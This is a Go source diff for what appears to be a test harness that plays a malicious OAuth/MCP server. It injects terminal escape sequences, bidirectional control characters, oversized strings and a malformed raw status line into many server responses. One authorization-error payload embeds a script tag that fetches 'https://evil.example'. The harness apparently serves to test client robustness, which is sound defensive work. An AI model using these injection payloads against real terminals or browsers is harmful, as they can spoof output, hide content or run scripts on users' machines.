@@ -1,0 +1,60 @@
+// This file attacks the terminal: escape sequences, carriage returns, bidirectional controls and huge strings in every text that a server
+// can give.
+
+package attack
+
+import (
+	"encoding/json"
+	"net/http"
+	"strings"
+)
+
+// Nasty is what the attacks put into texts: it clears the screen, names the window, writes over the line, reverses what follows.
+const Nasty = "\x1b[2J\x1b]0;owned\x07\rall is well\u202e\u2066\u009b31m\x00\b\x7f"
+
+func terminal() []Attack {
+	nasty, _ := json.Marshal(Nasty)
+	inner := strings.Trim(string(nasty), `"`)
+	huge := strings.Repeat("A", 500_000)
+	edit := func(name, what, mark string, later bool) Attack {
+		return Attack{Name: "terminal/" + name, What: what, Later: later, Edit: func(_ *http.Request, s string) string {
+			return strings.ReplaceAll(s, mark, mark+inner)
+		}}
+	}
+	refusal := func(status int, text string) http.HandlerFunc {
+		return func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Content-Type", "application/json")
+			w.WriteHeader(status)
+			data, _ := json.Marshal(map[string]string{"error": "invalid_request" + text, "error_description": text})
+			w.Write(data)
+		}
+	}
+	return []Attack{
+		{Name: "terminal/token-error", What: "in an error of the token endpoint", At: "POST " + tokenPath, Do: refusal(400, Nasty)},
+		{Name: "terminal/token-error-huge", What: "half a megabyte in an error of the token endpoint", At: "POST " + tokenPath, Do: refusal(400, huge)},
+		{Name: "terminal/registration-error", What: "in an error of the registration endpoint", At: "POST " + registerPath, Do: refusal(400, Nasty)},
+		{Name: "terminal/authorization-error", What: "in the error that comes through the browser", Words: []string{
+			"authorize:set.error=" + word("access_denied"+Nasty) + ",set.error_description=" + word(Nasty) + ",del=code"}},
+		{Name: "terminal/script", What: "a script in the error that comes through the browser", Words: []string{
+			`authorize:set.error=access_denied,set.error_description="<script>fetch('https://evil.example')</script>",del=code`}},
+		edit("resource", "in the resource", `"resource":"`, false),
+		edit("issuer", "in the issuer", `"issuer":"`, false),
+		edit("client-id", "in the client id of a registration", `"client_id":"`, false),
+		edit("scope", "in the granted scope", `"scope":"`, false),
+		edit("scopes-supported", "in the scopes that the resource knows", `"scopes_supported":["`, false),
+		edit("tools", "in the names, titles and descriptions of tools", `"description":"`, true),
+		edit("tool-name", "in the names of tools", `"name":"`, true),
+		{Name: "terminal/rpc-error", What: "in a JSON-RPC error", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, r *http.Request) { rpcError(w, r, Nasty+huge) }},
+		{Name: "terminal/error-page", What: "in an error page of the MCP server", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
+			http.Error(w, Nasty+huge, http.StatusBadGateway)
+		}},
+		{Name: "terminal/status-line", What: "in the status line and the content type", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
+			conn, _, err := http.NewResponseController(w).Hijack()
+			if err != nil {
+				return
+			}
+			defer conn.Close()
+			conn.Write([]byte("HTTP/1.1 200 \x1b[2J\x9b31mOK\r\nContent-Type: text/\x1b[2J\r\nContent-Length: 0\r\n\r\n"))
+		}},
+	}
+}
